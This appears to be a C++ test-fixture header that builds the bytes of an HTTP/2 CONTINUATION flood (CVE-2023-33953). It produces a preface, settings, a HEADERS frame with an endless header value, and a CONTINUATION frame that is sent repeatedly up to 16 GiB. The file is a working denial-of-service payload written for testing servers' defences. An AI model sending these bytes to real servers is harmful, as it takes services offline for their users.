// endless_header.h: the bytes that open an HTTP/2 connection and then send one header without an
// end, in CONTINUATION frames (CVE-2023-33953).
//
// Role: pure. Only the bytes; the test sends them.
#pragma once

#include <cstddef>
#include <string>

namespace dt::testing {

// Returns a frame on stream 1.
inline std::string Http2Frame(char type, char flags, const std::string& payload) {
  std::string frame;
  frame.push_back(static_cast<char>(payload.size() >> 16));
  frame.push_back(static_cast<char>(payload.size() >> 8));
  frame.push_back(static_cast<char>(payload.size()));
  frame += type;
  frame += flags;
  frame += std::string("\0\0\0\1", 4);
  return frame + payload;
}

// Returns the preface, the settings, and a literal header whose value is longer than all that is
// sent.
inline std::string EndlessHeaderOpening() {
  std::string settings = Http2Frame(4, 0, "");
  settings[8] = 0;  // settings belong to the connection, stream 0
  return "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings +
         Http2Frame(1, 0, std::string("\0\1x\x7f\xff\xff\xff\x7f", 8));
}

// Returns the frame that follows, to be sent again and again.
inline std::string EndlessHeaderMore() { return Http2Frame(9, 0, std::string(16 << 10, 'a')); }

// No server takes this much before it closes the connection, which it may do after a tenth of a
// second: a loopback takes 256 MiB in less.
inline constexpr size_t kEndlessHeaderBytes = size_t{16} << 30;

}  // namespace dt::testing
